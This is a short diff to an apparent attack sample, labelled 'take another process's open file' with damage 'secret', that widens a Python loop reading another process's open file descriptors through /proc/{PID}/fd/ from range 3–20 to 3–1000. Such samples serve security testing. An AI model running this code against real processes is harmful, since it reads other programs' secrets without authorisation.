@@ -1,7 +1,7 @@
 # attack: take another process's open file
 # damage: secret
 
-for number in range(3, 20):
+for number in range(3, 1000):
     try:
         text = open(f"/proc/{PID}/fd/{number}").read()
     except OSError:
